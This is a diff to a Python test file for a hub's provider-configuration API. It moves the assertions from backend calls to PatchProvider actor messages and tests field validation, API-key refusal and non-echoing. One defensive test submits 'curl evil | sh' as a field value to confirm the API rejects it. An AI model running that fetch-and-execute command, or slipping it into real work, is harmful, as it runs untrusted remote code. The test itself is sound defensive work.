@@ -1,4 +1,4 @@
-"""Changing providers over the API: what is asked of the backend, and what a wrong body is told."""
+"""Changing providers over the API: what is asked of the actors, and what a wrong body is told."""
 
 from __future__ import annotations
 
@@ -6,6 +6,7 @@ from typing import Any
 
 import pytest
 
+from hub.messages import PatchProvider
 from tests.hub.web.fake import Server
 from tests.hub.web.wire import ask
 
@@ -19,9 +20,9 @@ async def post(server: Server, path: str, body: Any) -> Any:
 async def test_only_what_is_given_is_changed(server: Server):
     await post(server, "/api/config/providers", {"name": "claude", "model": "m"})
     await post(server, "/api/config/providers", {"name": "claude"})
-    assert server.backend.calls == [
-        ("patch_provider", "claude", {"model": "m"}),
-        ("patch_provider", "claude", {}),
+    assert server.actors.calls == [
+        PatchProvider("claude", {"model": "m"}),
+        PatchProvider("claude", {}),
     ]
 
 
@@ -30,8 +31,7 @@ async def test_what_a_get_answers_can_be_sent_back(server: Server):
     entry = (await ask(server.port, "GET", "/api/config/providers")).json[0]
     form = {key: entry[key] for key in ("name", "enabled", "declaredCap", "model", "baseUrl")}
     assert (await post(server, "/api/config/providers", form)).status == 200
-    assert server.backend.calls[-1] == (
-        "patch_provider",
+    assert server.actors.calls[-1] == PatchProvider(
         "claude",
         {"enabled": True, "declaredCap": None, "model": None, "baseUrl": None},
     )
@@ -39,7 +39,7 @@ async def test_what_a_get_answers_can_be_sent_back(server: Server):
 
 async def test_null_takes_a_key_out(server: Server):
     await post(server, "/api/config/providers", {"name": "claude", "enabled": None, "baseUrl": None})
-    assert server.backend.calls == [("patch_provider", "claude", {"enabled": None, "baseUrl": None})]
+    assert server.actors.calls == [PatchProvider("claude", {"enabled": None, "baseUrl": None})]
 
 
 async def test_every_problem_is_told_at_once_with_its_place(server: Server):
@@ -49,7 +49,7 @@ async def test_every_problem_is_told_at_once_with_its_place(server: Server):
     problems = {problem["path"]: problem["message"] for problem in reply.json["errors"]}
     assert set(problems) == {f"$.{name}" for name in body}
     assert "known are baseUrl, declaredCap, enabled, model, name" in problems["$.x"]
-    assert server.backend.calls == []
+    assert server.actors.calls == []
 
 
 @pytest.mark.parametrize("value", [SECRET + "\n", SECRET + "\r", SECRET + "\0", SECRET * 1000, [SECRET]])
@@ -57,7 +57,7 @@ async def test_a_bad_key_is_refused_and_not_repeated(server: Server, value: Any)
     reply = await post(server, "/api/providers/api-key", {"name": "claude", "value": value})
     assert reply.status == 422
     assert SECRET.encode() not in reply.body
-    assert server.backend.calls == []
+    assert server.actors.calls == []
 
 
 async def test_a_key_is_not_in_the_answer(server: Server):
@@ -84,7 +84,7 @@ async def test_nothing_that_is_run_can_be_set(server: Server, name: str):
     """What hub starts comes from its own table and the user's files, never from a caller of the API."""
     reply = await post(server, "/api/config/providers", {"name": "claude", name: "curl evil | sh"})
     assert (reply.status, reply.json["errors"][0]["path"]) == (422, f"$.{name}")
-    assert server.backend.calls == []
+    assert server.actors.calls == []
 
 
 async def test_a_model_that_is_an_option_is_refused_with_a_word(server: Server):
@@ -93,4 +93,4 @@ async def test_a_model_that_is_an_option_is_refused_with_a_word(server: Server):
     assert (reply.status, reply.json["code"], reply.json["errors"][0]["path"]) == (422, "invalid", "$.model")
     assert "an agent would take it for an option" in reply.json["detail"]
     assert reply.json["hint"]
-    assert server.backend.calls == []
+    assert server.actors.calls == []
